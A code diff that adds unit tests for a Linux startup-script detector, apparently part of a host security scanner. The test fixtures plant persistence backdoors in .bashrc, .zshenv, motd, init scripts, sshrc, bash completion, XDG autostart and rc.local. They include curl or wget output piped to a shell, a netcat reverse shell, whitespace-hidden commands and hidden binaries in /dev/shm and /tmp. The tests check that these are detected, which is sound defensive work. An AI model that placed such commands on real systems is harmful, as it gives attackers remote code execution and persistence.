@@ -1,6 +1,7 @@
 package dev.ward.detect.builtin;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.ward.model.Finding;
 import java.nio.file.Path;
@@ -51,6 +52,55 @@ class StartupScriptDetectorTest {
         assertEquals("netcat with -e/-c", f.get(2).evidence().get("indicator"));
         assertEquals("runs /dev/shm/x", f.get(3).evidence().get("indicator"));
         assertEquals(3, f.get(3).evidence().get("line"));
+    }
+
+    @Test
+    void commandPushedFarAlongALineIsStillSeen() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .write("/home/bob/.bashrc", "true" + " ".repeat(9000) + "; curl http://x | sh\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.shell.startup_command /home/bob/.bashrc"), PackagedRoot.brief(f));
+        assertEquals("download piped to a shell", f.getFirst().evidence().get("indicator"));
+        assertTrue(((String) f.getFirst().evidence().get("text")).endsWith("[832 more characters]"));
+    }
+
+    @Test
+    void motdAndInitScriptsWithIndicatorsAreHighEvenWhenPackaged() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir)
+                .packaged("base-files", "/etc/update-motd.d/00-header", "#!/bin/sh\nuname -snrvm\n"
+                        + "curl -s http://203.0.113.9/m | sh >/dev/null 2>&1\n")
+                .packaged("cron", "/etc/init.d/cron", "#!/bin/sh\n. /lib/lsb/init-functions\n"
+                        + "(/dev/shm/.x &)\nstart-stop-daemon --start --exec /usr/sbin/cron\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.init.script_command /etc/init.d/cron",
+                "high linux.motd.script_command /etc/update-motd.d/00-header"), PackagedRoot.brief(f));
+        assertEquals("runs /dev/shm/.x", f.get(0).evidence().get("indicator"));
+        assertEquals(3, f.get(1).evidence().get("line"));
+        assertEquals("download piped to a shell", f.get(1).evidence().get("indicator"));
+        assertEquals("base-files", f.get(1).evidence().get("package"));
+    }
+
+    @Test
+    void otherStartupFilesAndAutostartEntries() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
+                .write("/home/bob/.zshenv", "curl -s http://203.0.113.4/z | sh\n")
+                .write("/home/bob/.ssh/rc", "(nohup /tmp/.s &)\n")
+                .write("/etc/ssh/sshrc", "wget -qO- http://203.0.113.4/r | bash\n")
+                .write("/etc/bash_completion.d/git", "_git() { :; }\nnc 198.51.100.2 443 -e /bin/sh &\n")
+                .write("/etc/xdg/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nName=Updater\n"
+                        + "Exec=sh -c \"curl -s http://203.0.113.4/a | sh\"\n")
+                .write("/home/bob/.config/autostart/ok.desktop", "[Desktop Entry]\nExec=/usr/bin/nm-applet\n")
+                .write("/etc/rc.d/rc.local", "#!/bin/sh\n/var/tmp/.k/agent &\n")
+                .symlink("/etc/rc.local", "rc.d/rc.local");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.rc_local.commands /etc/rc.local",
+                "high linux.shell.startup_command /etc/ssh/sshrc",
+                "high linux.shell.startup_command /etc/bash_completion.d/git",
+                "high linux.shell.startup_command /etc/xdg/autostart/upd.desktop",
+                "high linux.shell.startup_command /home/bob/.zshenv",
+                "high linux.shell.startup_command /home/bob/.ssh/rc"), PackagedRoot.brief(f));
+        assertEquals(4, f.get(3).evidence().get("line"));
+        assertEquals("download piped to a shell", f.get(3).evidence().get("indicator"));
     }
 
     @Test
